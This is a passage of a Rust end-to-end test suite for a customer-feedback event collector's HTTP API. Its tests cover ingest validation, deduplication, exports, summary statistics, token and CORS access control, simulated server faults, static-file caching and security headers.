//! End-to-end tests of the collector's HTTP API against a real server over real HTTP.

#[macro_use]
mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::sync::{Arc, Barrier};
use std::time::{Duration, Instant};

use common::*;
use serde_json::{json, Value};

both! {
fn health() {
    let s = start(&[]);
    let r = s.get("/api/health");
    assert_eq!((r.status, r.body.as_str()), (200, "ok"));
}
}

both! {
fn batch_and_single_modes_are_stored_as_received() {
    let s = start(&[]);
    let body = format!("[{}, {}]", event("a"), event("b"));
    let r = s.post("application/cloudevents-batch+json; charset=utf-8", &body);
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(r.json(), json!({"stored":2,"duplicates":0}));
    assert!(r
        .header("content-type")
        .unwrap_or_default()
        .starts_with("application/json"));

    let single = "{\"specversion\":\"1.0\",  \"id\":\"c\",\"source\":\"/s\",\"type\":\"t\",\"storeid\":\"x1\"}";
    let r = s.post("Application/CloudEvents+JSON;charset=UTF-8", single);
    assert_eq!(
        (r.status, r.json()),
        (200, json!({"stored":1,"duplicates":0}))
    );

    assert_eq!(s.stored_ids(), ["a", "b", "c"]);
    let ndjson = s.get("/api/events.ndjson");
    assert_eq!(
        ndjson.header("content-type").as_deref(),
        Some("application/x-ndjson")
    );
    // The event text is kept exactly as it was sent.
    assert_eq!(ndjson.body.lines().nth(2), Some(single));
}
}

both! {
fn empty_batch_stores_nothing() {
    let s = start(&[]);
    let r = s.post(BATCH, "[]");
    assert_eq!(
        (r.status, r.json()),
        (200, json!({"stored":0,"duplicates":0}))
    );
    assert!(s.stored().is_empty());
}
}

both! {
fn wrong_content_type_is_415() {
    let s = start(&[]);
    let body = format!("[{}]", event("a"));
    for ct in ["application/json", "text/plain", ""] {
        let r = s.try_post("/api/events", ct, &body, &[]).expect("answered");
        assert_eq!(r.status, 415, "content type {ct:?}");
        assert!(r.json()["problems"][0]["reason"]
            .as_str()
            .is_some_and(|s| s.contains("Content-Type")));
    }
    assert!(s.stored().is_empty());
}
}

both! {
fn malformed_json_is_400() {
    let s = start(&[]);
    for (ct, body) in [(BATCH, "[{"), (BATCH, "{\"id\":1}"), (SINGLE, "nope")] {
        let r = s.post(ct, body);
        assert_eq!(r.status, 400, "{body}");
        assert!(r.json()["problems"][0]["reason"].is_string());
    }
    assert!(s.stored().is_empty());
}
}

both! {
fn invalid_batch_lists_every_problem_and_stores_nothing() {
    let s = start(&[]);
    let mut missing_id = event("x");
    missing_id.as_object_mut().map(|o| o.remove("id"));
    let mut old_version = event("y");
    old_version["specversion"] = json!("0.3");
    let mut bad_time = event("z");
    bad_time["time"] = json!("30/11/2026 05:18");
    let mut bad_ext = event("w");
    bad_ext["Store_ID"] = json!("lanting");
    let batch = [
        event("ok"),
        missing_id,
        old_version,
        bad_time,
        bad_ext,
        json!("not an event"),
    ];
    let r = s.post_batch(&batch);
    assert_eq!(r.status, 400, "{}", r.body);
    let problems = r.json()["problems"].as_array().cloned().unwrap_or_default();
    let found: Vec<(u64, String)> = problems
        .iter()
        .map(|p| {
            (
                p["index"].as_u64().unwrap_or(99),
                p["attribute"].as_str().unwrap_or("").to_owned(),
            )
        })
        .collect();
    let expected: Vec<(u64, String)> = [
        (1, "id"),
        (2, "specversion"),
        (3, "time"),
        (4, "Store_ID"),
        (5, ""),
    ]
    .map(|(i, a)| (i, a.to_owned()))
    .into();
    assert_eq!(found, expected);
    assert!(problems
        .iter()
        .all(|p| p["reason"].as_str().is_some_and(|r| r.len() > 10)));
    assert!(
        s.stored().is_empty(),
        "the valid event of an invalid batch must not be stored"
    );

    // Single mode reports index 0.
    let r = s.post(
        SINGLE,
        &json!({"specversion":"1.0","id":"","source":"/s","type":"t"}).to_string(),
    );
    assert_eq!(r.status, 400);
    assert_eq!(
        r.json()["problems"],
        json!([{"index":0,"attribute":"id","reason":"id must not be empty"}])
    );
}
}

both! {
fn duplicates_are_acknowledged_and_stored_once() {
    let s = start(&[]);
    let r = s.post_batch(&[event("a"), event("b")]);
    assert_eq!(r.json(), json!({"stored":2,"duplicates":0}));
    let r = s.post_batch(&[event("b"), event("c"), event("c")]);
    assert_eq!(
        (r.status, r.json()),
        (200, json!({"stored":1,"duplicates":2}))
    );
    // Same id from another source is a different event.
    let mut other = event("a");
    other["source"] = json!("/stores/other");
    assert_eq!(
        s.post_batch(&[other]).json(),
        json!({"stored":1,"duplicates":0})
    );
    assert_eq!(s.stored_ids(), ["a", "b", "c", "a"]);
}
}

both! {
fn concurrent_overlapping_batches_store_each_event_once() {
    let dir = temp_dir("concurrent");
    let db = dir.join("events.sqlite");
    let s = Arc::new(start(&["--db", db.to_str().unwrap_or("x")]));
    let threads = 16;
    let barrier = Arc::new(Barrier::new(threads));
    let handles: Vec<_> = (0..threads)
        .map(|t| {
            let (s, barrier) = (Arc::clone(&s), Arc::clone(&barrier));
            std::thread::spawn(move || {
                let agent = agent();
                let (mut stored, mut failures) = (0, Vec::new());
                for round in 0..3 {
                    let batch: Vec<Value> = (0..25)
                        .map(|i| event(&format!("ev-{}", (t * 3 + i + round * 5) % 60)))
                        .collect();
                    barrier.wait();
                    // No panic between barriers: the other threads would wait forever.
                    let answer = agent
                        .post(s.url("/api/events"))
                        .header("Content-Type", BATCH)
                        .send(Value::from(batch).to_string())
                        .map_err(|e| e.to_string())
                        .and_then(|r| {
                            let status = r.status().as_u16();
                            let body = r.into_body().read_to_string().map_err(|e| e.to_string())?;
                            Ok((status, body))
                        });
                    let v: Value = match &answer {
                        Ok((200, body)) => serde_json::from_str(body).unwrap_or_default(),
                        _ => Value::Null,
                    };
                    match (v["stored"].as_u64(), v["duplicates"].as_u64()) {
                        (Some(s), Some(d)) if s + d == 25 => stored += s,
                        _ => failures.push(format!("round {round}: {answer:?}")),
                    }
                }
                (stored, failures)
            })
        })
        .collect();
    let (mut total, mut failures) = (0u64, Vec::new());
    for h in handles {
        let (stored, f) = h.join().expect("thread");
        total += stored;
        failures.extend(f);
    }
    assert!(failures.is_empty(), "{failures:#?}");
    let ids = s.stored_ids();
    let distinct: BTreeSet<_> = ids.iter().collect();
    assert_eq!(distinct.len(), ids.len(), "an event was stored twice");
    assert_eq!(
        total as usize,
        ids.len(),
        "stored counts must add up to what is stored"
    );
    assert_eq!(ids.len(), 60);
}
}

both! {
fn token_is_required_when_set() {
    let s = start(&["--token", "s3cret-token"]);
    let body = format!("[{}]", event("a"));
    for headers in [
        &[][..],
        &[("Authorization", "Bearer wrong")][..],
        &[("Authorization", "Basic s3cret-token")][..],
    ] {
        let r = s
            .try_post("/api/events", BATCH, &body, headers)
            .expect("answered");
        assert_eq!(r.status, 401, "{headers:?}");
        assert_eq!(r.header("www-authenticate").as_deref(), Some("Bearer"));
        assert!(r.json()["problems"][0]["reason"].is_string());
    }
    assert!(s.stored().is_empty());
    let r = s
        .try_post(
            "/api/events",
            BATCH,
            &body,
            &[("Authorization", "Bearer s3cret-token")],
        )
        .expect("answered");
    assert_eq!(
        (r.status, r.json()),
        (200, json!({"stored":1,"duplicates":0}))
    );
}
}

both! {
fn bodies_over_the_limit_are_413() {
    let s = start(&["--max-body", "1000"]);
    let base = format!("[{}]", event("a"));
    let exactly = format!("{base}{}", " ".repeat(1000 - base.len()));
    let over = format!("{exactly} ");
    let r = s.post(BATCH, &over);
    assert_eq!(r.status, 413, "{}", r.body);
    assert!(r.json()["problems"][0]["reason"].is_string());
    // Without a Content-Length (chunked), the limit is enforced while reading.
    let mut reader = over.as_bytes();
    let resp = s
        .agent
        .post(s.url("/api/events"))
        .header("Content-Type", BATCH)
        .send(ureq::SendBody::from_reader(&mut reader))
        .expect("answered");
    assert_eq!(resp.status().as_u16(), 413);
    assert!(s.stored().is_empty());
    let r = s.post(BATCH, &exactly);
    assert_eq!(
        r.status, 200,
        "a body of exactly --max-body bytes is accepted: {}",
        r.body
    );
}
}

/// RFC 4180 parsing, enough to check the export.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut field) = (Vec::new(), Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(
        !quoted && field.is_empty() && row.is_empty(),
        "CSV must end with a line break"
    );
    rows
}

both! {
fn ndjson_and_csv_exports() {
    let s = start(&[]);
    let mut tricky = survey(
        "s1",
        "checkout, \"3\"",
        Some("2026-11-30T05:18:21.123Z"),
        9,
        4,
        87.5,
    );
    tricky["data"]["comment"] = json!("line one\nline \"two\", with comma\r\nend");
    let plain = event("e2");
    assert_eq!(s.post_batch(&[tricky.clone(), plain.clone()]).status, 200);

    let nd = s.get("/api/events.ndjson");
    let lines: Vec<Value> = nd
        .body
        .lines()
        .map(|l| serde_json::from_str(l).expect("json line"))
        .collect();
    assert_eq!(lines, [tricky.clone(), plain.clone()]);

    let csv = s.get("/api/events.csv");
    assert_eq!(csv.status, 200);
    assert!(csv
        .header("content-type")
        .unwrap_or_default()
        .starts_with("text/csv"));
    assert!(
        csv.body.contains("\"checkout, \"\"3\"\"\""),
        "quotes doubled and field quoted"
    );
    let rows = parse_csv(&csv.body);
    assert_eq!(rows.len(), 3);
    assert_eq!(
        rows[0].join(","),
        "received_at,source,id,type,time,touchpoint,kind,nps,csat,csi,data"
    );
    let r = &rows[1];
    assert!(
        r[0].starts_with("20") && r[0].ends_with('Z'),
        "received_at {}",
        r[0]
    );
    assert_eq!(
        r[1..10],
        [
            "/stores/lanting-xuhui/touchpoints/checkout, \"3\"",
            "s1",
            "storevoice.survey-response.v1",
            "2026-11-29T10:00:00.000Z",
            "checkout, \"3\"",
            "survey-response",
            "9",
            "4",
            "87.5"
        ]
    );
    let data: Value = serde_json::from_str(&r[10]).expect("data column is JSON");
    assert_eq!(data, tricky["data"]);
    assert_eq!(
        rows[2][1..10],
        [
            "/stores/test/touchpoints/t1",
            "e2",
            "test.v1",
            "",
            "",
            "",
            "",
            "",
            ""
        ]
    );
    assert_eq!(
        serde_json::from_str::<Value>(&rows[2][10]).ok(),
        Some(json!({"n":1}))
    );
}
}

fn close(v: &Value, expected: f64) -> bool {
    v.as_f64().is_some_and(|x| (x - expected).abs() < 1e-9)
}

both! {
fn summary_numbers() {
    let s = start(&[]);
    let events = [
        survey(
            "1",
            "checkout-3",
            Some("2026-11-30T05:18:21.123Z"),
            10,
            5,
            80.0,
        ),
        survey("2", "checkout-3", Some("2026-11-30T12:00:00Z"), 9, 4, 90.0),
        // 23:30 at UTC−1 is the next day in UTC.
        survey(
            "3",
            "checkout-3",
            Some("2026-11-30T23:30:00-01:00"),
            3,
            2,
            40.0,
        ),
        // No finished_at: the event time (2026-11-29) gives the day.
        survey("4", "exit-kiosk-1", None, 7, 3, 50.0),
        json!({"specversion":"1.0","id":"f1","source":"/s","type":"storevoice.feedback.v1",
               "data":{"touchpoint":"checkout-3","scores":{"nps":0}}}),
    ];
    assert_eq!(s.post_batch(&events).status, 200);
    let sum = s.get("/api/summary").json();
    assert_eq!(sum["total"], json!(5));
    assert_eq!(
        sum["by_type"],
        json!({"storevoice.survey-response.v1":4,"storevoice.feedback.v1":1})
    );

    let tp = &sum["per_touchpoint"];
    assert_eq!(tp.as_object().map(|o| o.len()), Some(2));
    assert_eq!(tp["checkout-3"]["responses"], json!(3));
    assert!(
        close(&tp["checkout-3"]["nps"], 100.0 / 3.0),
        "{}",
        tp["checkout-3"]
    ); // 2 promoters, 1 detractor
    assert!(close(&tp["checkout-3"]["csat_percent"], 200.0 / 3.0));
    assert!(close(&tp["checkout-3"]["csi_mean"], 70.0));
    assert_eq!(
        tp["exit-kiosk-1"],
        json!({"responses":1,"nps":0.0,"csat_percent":0.0,"csi_mean":50.0})
    );

    let days = &sum["per_day"];
    let keys: Vec<_> = days
        .as_object()
        .map(|o| o.keys().cloned().collect())
        .unwrap_or_default();
    assert_eq!(keys, ["2026-11-29", "2026-11-30", "2026-12-01"]);
    assert_eq!(
        days["2026-11-30"],
        json!({"responses":2,"nps":100.0,"csat_percent":100.0,"csi_mean":85.0})
    );
    assert_eq!(
        days["2026-12-01"],
        json!({"responses":1,"nps":-100.0,"csat_percent":0.0,"csi_mean":40.0})
    );
    assert_eq!(days["2026-11-29"]["responses"], json!(1));
}
}

both! {
fn empty_summary() {
    let s = start(&[]);
    assert_eq!(
        s.get("/api/summary").json(),
        json!({"total":0,"by_type":{},"per_touchpoint":{},"per_day":{},"suspect_excluded":0,"suspect_included":false})
    );
}
}

both! {
fn summary_leaves_suspect_events_out_and_says_how_many() {
    let s = start(&[]);
    let mut burst = survey("b", "exit-kiosk-1", Some("2026-11-30T05:00:00.000Z"), 0, 1, 0.0);
    burst["suspect"] = json!("burst");
    let mut fast = survey("f", "exit-kiosk-1", Some("2026-11-30T05:00:01.000Z"), 0, 1, 0.0);
    fast["suspect"] = json!("too-fast");
    fast["outsidehours"] = json!(true);
    let honest = survey("h", "exit-kiosk-1", Some("2026-11-30T05:00:30.000Z"), 10, 5, 100.0);
    assert_eq!(s.post_batch(&[burst, fast, honest]).status, 200);
    // stored as received, marks included
    let stored = s.get("/api/events.ndjson").body;
    assert!(stored.contains("\"suspect\":\"burst\"") && stored.contains("\"outsidehours\":true"), "{stored}");

    let sum = s.get("/api/summary").json();
    assert_eq!(sum["total"], json!(3));
    assert_eq!(sum["suspect_excluded"], json!(2));
    assert_eq!(sum["suspect_included"], json!(false));
    assert_eq!(
        sum["per_touchpoint"]["exit-kiosk-1"],
        json!({"responses":1,"nps":100.0,"csat_percent":100.0,"csi_mean":100.0})
    );
    let all = s.get("/api/summary?include_suspect=true").json();
    assert_eq!((all["suspect_excluded"].clone(), all["suspect_included"].clone()), (json!(0), json!(true)));
    assert_eq!(all["per_touchpoint"]["exit-kiosk-1"]["responses"], json!(3));
    assert!(close(&all["per_touchpoint"]["exit-kiosk-1"]["nps"], -100.0 / 3.0));
}
}

const READ_PATHS: [&str; 3] = ["/api/events.ndjson", "/api/events.csv", "/api/summary"];

// Was: any origin could read everything (CORS `*`) and the exports needed no token.
both! {
fn exports_need_the_admin_token() {
    let s = start(&["--token", "ingest-token-0001"]);
    let auth = |t: &str| format!("Bearer {t}");
    assert_eq!(
        s.try_post(
            "/api/events",
            BATCH,
            &format!("[{}]", event("a")),
            &[("Authorization", &auth("ingest-token-0001"))]
        )
        .expect("answered")
        .status,
        200
    );
    for path in READ_PATHS {
        for headers in [
            vec![],
            vec![("Authorization", auth("wrong-admin-token-0000"))],
            vec![("Authorization", auth(&s.admin[..s.admin.len() - 1]))],
            vec![("Authorization", format!("Basic {}", s.admin))],
            // Ingest and read are separate permissions.
            vec![("Authorization", auth("ingest-token-0001"))],
        ] {
            let headers: Vec<(&str, &str)> =
                headers.iter().map(|(k, v)| (*k, v.as_str())).collect();
            let r = s.get_with(path, &headers);
            assert_eq!(r.status, 401, "{path} {headers:?}");
            assert_eq!(r.header("www-authenticate").as_deref(), Some("Bearer"));
            let reason = r.json()["problems"][0]["reason"]
                .as_str()
                .unwrap_or("")
                .to_owned();
            assert!(reason.contains("admin token"), "{reason}");
            assert!(
                !r.body.contains("\"id\":\"a\""),
                "no data leaks in the error"
            );
        }
        let ok = s.get(path);
        assert_eq!(ok.status, 200, "{path}");
        assert_eq!(
            ok.header("cache-control").as_deref(),
            Some("no-store"),
            "{path}"
        );
    }
    // The admin token does not post events.
    let r = s
        .try_post(
            "/api/events",
            BATCH,
            &format!("[{}]", event("b")),
            &[("Authorization", &auth(&s.admin))],
        )
        .expect("answered");
    assert_eq!(r.status, 401);
    assert_eq!(s.stored_ids(), ["a"]);
}
}

fn preflight(s: &TestServer, path: &str, origin: &str) -> Reply {
    let resp = s
        .agent
        .options(s.url(path))
        .header("Origin", origin)
        .header("Access-Control-Request-Method", "POST")
        .header(
            "Access-Control-Request-Headers",
            "content-type,authorization",
        )
        .call()
        .expect("preflight answered");
    let status = resp.status().as_u16();
    let headers = resp.headers().clone();
    Reply {
        status,
        headers,
        body: String::new(),
    }
}

// Was: `Access-Control-Allow-Origin: *` on every `/api/…` answer.
both! {
fn cors_only_for_configured_app_origins_and_never_for_exports() {
    let s = start(&[
        "--allow-origin",
        "https://kiosk.example",
        "--allow-origin",
        "https://qr.example",
    ]);
    let r = preflight(&s, "/api/events", "https://kiosk.example");
    assert!((200..300).contains(&r.status), "{}", r.status);
    let h = |r: &Reply, n: &str| r.header(n).unwrap_or_default().to_ascii_lowercase();
    assert_eq!(
        h(&r, "access-control-allow-origin"),
        "https://kiosk.example"
    );
    assert!(h(&r, "access-control-allow-methods").contains("post"));
    assert!(h(&r, "access-control-allow-headers").contains("authorization"));
    assert!(h(&r, "access-control-allow-headers").contains("content-type"));

    let r = s
        .try_post(
            "/api/events",
            BATCH,
            &format!("[{}]", event("a")),
            &[("Origin", "https://qr.example")],
        )
        .expect("answered");
    assert_eq!(r.status, 200);
    assert_eq!(h(&r, "access-control-allow-origin"), "https://qr.example");
    assert!(h(&r, "access-control-expose-headers").contains("retry-after"));

    // Another origin gets no CORS grant, so its pages cannot read the answer.
    let r = preflight(&s, "/api/events", "https://evil.example");
    assert_eq!(r.header("access-control-allow-origin"), None);
    let r = s
        .try_post(
            "/api/events",
            BATCH,
            &format!("[{}]", event("b")),
            &[("Origin", "https://evil.example")],
        )
        .expect("answered");
    assert_eq!(r.header("access-control-allow-origin"), None);

    // The exports are never CORS-readable, not even by the app's own origins.
    for path in READ_PATHS {
        let r = preflight(&s, path, "https://kiosk.example");
        assert_eq!(r.header("access-control-allow-origin"), None, "{path}");
        let auth = format!("Bearer {}", s.admin);
        let r = s.get_with(
            path,
            &[
                ("Origin", "https://kiosk.example"),
                ("Authorization", &auth),
            ],
        );
        assert_eq!(r.status, 200);
        assert_eq!(r.header("access-control-allow-origin"), None, "{path}");
    }

    // Default: no cross-origin grant at all (the app is served from the same origin).
    let s = start(&[]);
    let r = preflight(&s, "/api/events", "https://kiosk.example");
    assert_eq!(r.header("access-control-allow-origin"), None);
    let r = s
        .try_post(
            "/api/events",
            BATCH,
            &format!("[{}]", event("a")),
            &[("Origin", "https://kiosk.example")],
        )
        .expect("answered");
    assert_eq!(
        (r.status, r.header("access-control-allow-origin")),
        (200, None)
    );
}
}

/// One POST, summarised as the client saw it: a status, or "error" when the connection broke.
fn outcome(s: &TestServer, id: &str) -> String {
    match s.try_post("/api/events", BATCH, &format!("[{}]", event(id)), &[]) {
        Ok(r) => r.status.to_string(),
        Err(_) => "error".into(),
    }
}

both! {
fn faults_follow_the_seed() {
    let spec = "503=0.3,429=0.3,reset=0.2";
    let run = |seed: &str| {
        let s = start(&["--faults", spec, "--seed", seed]);
        let outcomes: Vec<String> = (0..30).map(|i| outcome(&s, &format!("e{i}"))).collect();
        let stored = s.stored_ids();
        (outcomes, stored)
    };
    let (a, stored_a) = run("42");
    let (b, stored_b) = run("42");
    let (c, _) = run("43");
    assert_eq!(a, b, "same seed, same faults");
    assert_eq!(stored_a, stored_b);
    assert_ne!(a, c, "another seed, other faults");
    for kind in ["200", "503", "429", "error"] {
        assert!(
            a.contains(&kind.to_owned()),
            "{kind} never happened in {a:?}"
        );
    }
    // Exactly the requests answered 200 or broken by `reset` were stored.
    let expected: Vec<String> = a
        .iter()
        .enumerate()
        .filter(|(_, o)| *o == "200" || *o == "error")
        .map(|(i, _)| format!("e{i}"))
        .collect();
    assert_eq!(stored_a, expected);
}
}

both! {
fn retry_after_alternates_between_seconds_and_a_date() {
    let s = start(&["--faults", "429=1"]);
    let mut values = Vec::new();
    for i in 0..4 {
        let r = s
            .try_post(
                "/api/events",
                BATCH,
                &format!("[{}]", event(&format!("e{i}"))),
                &[],
            )
            .expect("answered");
        assert_eq!(r.status, 429);
        values.push(r.header("retry-after").unwrap_or_default());
    }
    assert_eq!(values[0], "1");
    assert_eq!(values[2], "1");
    for date in [&values[1], &values[3]] {
        // IMF-fixdate: "Sun, 06 Nov 1994 08:49:37 GMT"
        assert_eq!(date.len(), 29, "{date}");
        assert!(
            date.ends_with(" GMT") && date.as_bytes()[3] == b',',
            "{date}"
        );
    }
    assert!(s.stored().is_empty(), "429 stores nothing");
}
}

both! {
fn reset_stores_the_events_but_the_client_sees_an_error() {
    let s = start(&["--faults", "reset=1"]);
    let body = format!("[{},{}]", event("a"), event("b"));
    let first = s.try_post("/api/events", BATCH, &body, &[]);
    assert!(
        first.is_err(),
        "the client must not get a complete answer: {first:?}"
    );
    assert_eq!(
        s.stored_ids(),
        ["a", "b"],
        "the events were committed before the connection broke"
    );
    // The client retries; dedup keeps one copy.
    assert!(s.try_post("/api/events", BATCH, &body, &[]).is_err());
    assert_eq!(s.stored_ids(), ["a", "b"]);
}
}

#[test]
fn redirect_fault_answers_302_to_a_page_that_answers_200_and_stores_nothing() {
    let s = start(&["--faults", "redirect=1"]);
    // a client that does not follow redirects sees the 302 and where it leads
    let manual = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .proxy(None)
        .max_redirects(0)
        .build()
        .new_agent();
    let r = manual
        .post(s.url("/api/events"))
        .header("Content-Type", BATCH)
        .send(format!("[{}]", event("a")))
        .expect("answered");
    assert_eq!(r.status().as_u16(), 302);
    assert_eq!(
        r.headers().get("location").and_then(|v| v.to_str().ok()),
        Some("/api/health")
    );
    // one that follows them ends at a 200 although nothing was stored: the trap
    let followed = s.post_batch(&[event("b")]);
    assert_eq!((followed.status, followed.body.as_str()), (200, "ok"));
    assert!(s.stored_ids().is_empty());
}

both! {
fn delay_fault_slows_the_answer() {
    let s = start(&["--faults", "delay=150-200"]);
    let t = Instant::now();
    let r = s.post_batch(&[event("a")]);
    let took = t.elapsed();
    assert_eq!(r.status, 200);
    assert!(took >= Duration::from_millis(150), "{took:?}");
    // Other endpoints are not delayed.
    let t = Instant::now();
    s.get("/api/health");
    assert!(t.elapsed() < Duration::from_millis(150));
}
}

both! {
fn config_file_is_served_uncached() {
    let dir = temp_dir("config");
    let path = dir.join("config.json");
    std::fs::write(&path, r#"{"endpoint":"http://127.0.0.1:1/api/events"}"#).expect("write");
    let s = start(&["--config", path.to_str().unwrap_or("x")]);
    let r = s.get("/config.json");
    assert_eq!(r.status, 200);
    assert_eq!(
        r.json(),
        json!({"endpoint":"http://127.0.0.1:1/api/events"})
    );
    assert_eq!(r.header("cache-control").as_deref(), Some("no-cache"));
    assert!(r
        .header("content-type")
        .unwrap_or_default()
        .starts_with("application/json"));
    std::fs::write(&path, r#"{"endpoint":"changed"}"#).expect("write");
    assert_eq!(
        s.get("/config.json").json(),
        json!({"endpoint":"changed"}),
        "read on every request"
    );
    assert_eq!(s.get("/index.html").status, 404, "no --dist, no app");
}
}

both! {
fn static_app_with_cache_headers() {
    let dist = temp_dir("dist");
    let files = BTreeMap::from([
        ("index.html", "<!doctype html><title>StoreVoice</title>"),
        ("config.json", r#"{"from":"dist"}"#),
        ("storevoice-123a49f5cb98fa82.js", "export default 1;"),
        ("storevoice-123a49f5cb98fa82_bg.wasm", "\0asm"),
        ("main-8a22411fcad2be20.css", "body{}"),
        ("logo.svg", "<svg/>"),
    ]);
    for (name, text) in &files {
        std::fs::write(dist.join(name), text).expect("write");
    }
    let other_dir = temp_dir("dist-config");
    let other_config = other_dir.join("config.json");
    std::fs::write(&other_config, r#"{"from":"flag"}"#).expect("write");

    let s = start(&["--dist", dist.to_str().unwrap_or("x")]);
    let root = s.get("/");
    assert_eq!(
        (root.status, root.body.as_str()),
        (200, files["index.html"])
    );
    assert_eq!(root.header("cache-control").as_deref(), Some("no-cache"));
    assert!(root
        .header("content-type")
        .unwrap_or_default()
        .starts_with("text/html"));
    assert_eq!(
        s.get("/index.html").header("cache-control").as_deref(),
        Some("no-cache")
    );
    let cfg = s.get("/config.json");
    assert_eq!(
        (cfg.json(), cfg.header("cache-control")),
        (json!({"from":"dist"}), Some("no-cache".into()))
    );
    for hashed in [
        "/storevoice-123a49f5cb98fa82.js",
        "/storevoice-123a49f5cb98fa82_bg.wasm",
        "/main-8a22411fcad2be20.css",
    ] {
        let r = s.get(hashed);
        assert_eq!(r.status, 200, "{hashed}");
        assert_eq!(
            r.header("cache-control").as_deref(),
            Some("public, max-age=31536000, immutable"),
            "{hashed}"
        );
    }
    assert_eq!(
        s.get("/storevoice-123a49f5cb98fa82_bg.wasm")
            .header("content-type")
            .as_deref(),
        Some("application/wasm")
    );
    assert_eq!(
        s.get("/logo.svg").header("cache-control").as_deref(),
        Some("no-cache")
    );
    assert_eq!(s.get("/missing.js").status, 404);
    let api404 = s.get("/api/nope");
    assert_eq!(api404.status, 404);
    assert!(api404.json()["problems"].is_array());
    assert_eq!(
        s.get("/api/health").body,
        "ok",
        "the API still answers beside the app"
    );
    drop(s);

    // --config wins over DIR/config.json.
    let s = start(&[
        "--dist",
        dist.to_str().unwrap_or("x"),
        "--config",
        other_config.to_str().unwrap_or("x"),
    ]);
    let cfg = s.get("/config.json");
    assert_eq!(
        (cfg.json(), cfg.header("cache-control")),
        (json!({"from":"flag"}), Some("no-cache".into()))
    );
    assert_eq!(s.get("/").status, 200);
}
}

// The build writes the app's Content-Security-Policy into index.html as a <meta>; the
// collector sends the same policy as a header on HTML pages, plus frame-ancestors 'none'
// (which only a header can carry), read from the page it sends.
#[test]
fn html_pages_carry_their_csp_as_a_header() {
    let dist = temp_dir("dist-csp");
    let policy = "default-src 'self'; script-src 'self' 'wasm-unsafe-eval' \
                  'sha256-Zm9vYmFyMTIzNDU2Nzg5MDEyMzQ1Njc4OTAxMjM0NTY='; style-src 'self'; \
                  connect-src 'self' http://127.0.0.1:*; object-src 'none'; base-uri 'none'";
    let index = format!(
        "<!doctype html><html><head><meta charset=\"utf-8\" />\n    \
         <meta http-equiv=\"Content-Security-Policy\" content=\"{policy}\" />\n\
         <title>StoreVoice</title></head><body></body></html>"
    );
    std::fs::write(dist.join("index.html"), &index).expect("write");
    std::fs::write(
        dist.join("help.html"),
        "<!doctype html><title>no meta</title>",
    )
    .expect("write");
    std::fs::write(
        dist.join("storevoice-123a49f5cb98fa82.js"),
        "export default 1;",
    )
    .expect("write");
    std::fs::write(dist.join("config.json"), "{}").expect("write");
    let s = start(&["--dist", dist.to_str().unwrap_or("x")]);
    let expected = format!("{policy}; frame-ancestors 'none'");
    for path in ["/", "/index.html"] {
        let r = s.get_with(path, &[]);
        assert_eq!(r.status, 200, "{path}");
        assert_eq!(r.body, index, "{path}: the page itself is unchanged");
        assert_eq!(
            r.header("content-security-policy").as_deref(),
            Some(expected.as_str()),
            "{path}"
        );
        assert_eq!(
            r.header("cache-control").as_deref(),
            Some("no-cache"),
            "{path}"
        );
        assert_eq!(
            r.header("x-content-type-options").as_deref(),
            Some("nosniff")
        );
        assert_eq!(r.header("referrer-policy").as_deref(), Some("no-referrer"));
    }
    // A page without a policy still may not be framed.
    assert_eq!(
        s.get_with("/help.html", &[])
            .header("content-security-policy")
            .as_deref(),
        Some("frame-ancestors 'none'")
    );
    // Only HTML: scripts, config and the API carry no page policy.
    for path in [
        "/storevoice-123a49f5cb98fa82.js",
        "/config.json",
        "/api/health",
    ] {
        let r = s.get_with(path, &[]);
        assert_eq!(r.status, 200, "{path}");
        assert_eq!(r.header("content-security-policy"), None, "{path}");
    }
    // A redeployed index.html is served with its own policy at once.
    let newer = index.replace("http://127.0.0.1:*", "https://collector.example");
    std::fs::write(dist.join("index.html"), &newer).expect("write");
    assert_eq!(
        s.get_with("/", &[]).header("content-security-policy"),
        Some(expected.replace("http://127.0.0.1:*", "https://collector.example"))
    );
}

fn bearer(token: &str) -> String {
    format!("Bearer {token}")
}

both! {
fn device_tokens_are_stored_hashed_and_bound_to_their_touchpoint() {
    let dir = temp_dir("device-tokens");
    let db = dir.join("events.sqlite");
    let db = db_arg(db.to_str().unwrap_or("x"));
    let db = db.as_str();
    let add = |tp: &str| {
        let (code, out, err) = cli(&[
            "token",
            "add",
            "--store",
            "lanting-xuhui",
            "--touchpoint",
            tp,
            "--db",
            db,
        ]);
        assert_eq!(code, 0, "{err}");
        assert!(err.contains("shown only now"), "{err}");
        let token = out.trim().to_owned();
        assert!(token.starts_with("svt_") && token.len() == 68, "{token}");
        token
    };
    let checkout = add("checkout-3");
    let kiosk = add("exit-kiosk-1");
    let raw = raw_db_bytes(std::path::Path::new(db));
    assert!(
        !contains(&raw, &checkout) && !contains(&raw, &kiosk[4..]),
        "tokens are kept only as hashes"
    );

    let s = start(&["--db", db]);
    let at = |id: &str, tp: &str| survey(id, tp, Some("2026-11-30T05:18:21.123Z"), 9, 4, 80.0);
    let post = |events: &[Value], token: Option<&str>| {
        let auth = token.map(bearer);
        let headers: Vec<(&str, &str)> =
            auth.iter().map(|a| ("Authorization", a.as_str())).collect();
        s.try_post(
            "/api/events",
            BATCH,
            &Value::from(events.to_vec()).to_string(),
            &headers,
        )
        .expect("answered")
    };
    // With device tokens provisioned, ingest is no longer open.
    let r = post(&[at("a", "checkout-3")], None);
    assert_eq!(r.status, 401, "{}", r.body);
    assert!(r.json()["problems"][0]["reason"]
        .as_str()
        .unwrap_or("")
        .contains("device token is required"));
    let r = post(&[at("a", "checkout-3")], Some("svt_0000"));
    assert_eq!(r.status, 401);
    assert!(r.body.contains("not valid"), "{}", r.body);
    assert_eq!(
        post(&[at("a", "checkout-3")], Some(&s.admin)).status,
        401,
        "the admin token does not post"
    );

    assert_eq!(
        post(&[at("a", "checkout-3")], Some(&checkout)).json(),
